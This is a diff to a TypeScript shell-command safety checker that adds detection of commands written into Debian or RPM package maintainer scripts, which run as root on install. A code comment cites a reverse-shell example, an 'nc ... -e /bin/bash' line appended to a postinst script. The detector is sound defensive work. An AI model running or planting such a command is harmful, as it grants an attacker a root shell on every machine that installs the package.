@@ -823,6 +823,9 @@ function judgedAsScript(runner: string, text: string, st: State, payload: boolea
   return (INTERPRETERS.has(runner) || runner === 'osascript') && readableCode(runner, inlineOption(runner), text, st);
 }
 
+/** Debian's and RPM's maintainer scripts, in a package's tree or beside its name (`DEBIAN/postinst`, `debian/foo.preinst`). */
+const MAINTAINER_SCRIPT = /(^|\/)(DEBIAN\/(pre|post)(inst|rm)|[^/]+\.(pre|post)(inst|rm))$/;
+
 /**
  * Files this text writes with a text it spells out (`cat > run.sh <<'EOF'`, `echo '…' > x.sh`, `… |
  * tee x.sh`), by absolute path, so a later command that runs one is judged by what it holds. A
@@ -850,6 +853,21 @@ function rememberWrittenFiles(words: Word[], prog: string, args: Word[], cmd: Si
     }
     const before = append ? st.written.get(at) : undefined;
     st.written.set(at, text === null || before === null ? null : before === undefined ? text : `${before}\n${text}`);
+    // A package's maintainer script runs as root wherever the package is installed: a command written
+    // into one (`echo "nc $IP 8888 -e /bin/bash" >> pkg/DEBIAN/postinst`) is judged as if run.
+    // Its variables are left as written: whatever they hold, the command's shape is what it runs.
+    const plantedText =
+      text ??
+      (prog === 'echo'
+        ? operands(args)
+            .map((a) => a.text)
+            .join(' ')
+        : null);
+    if (MAINTAINER_SCRIPT.test(at) && plantedText) {
+      const planted = checkCommand(plantedText, st.ws);
+      if (planted.dangerous)
+        danger(st, `writes into a package's install script, which runs as root when it is installed: ${planted.reasons[0]} (${file.text})`);
+    }
   }
 }
 
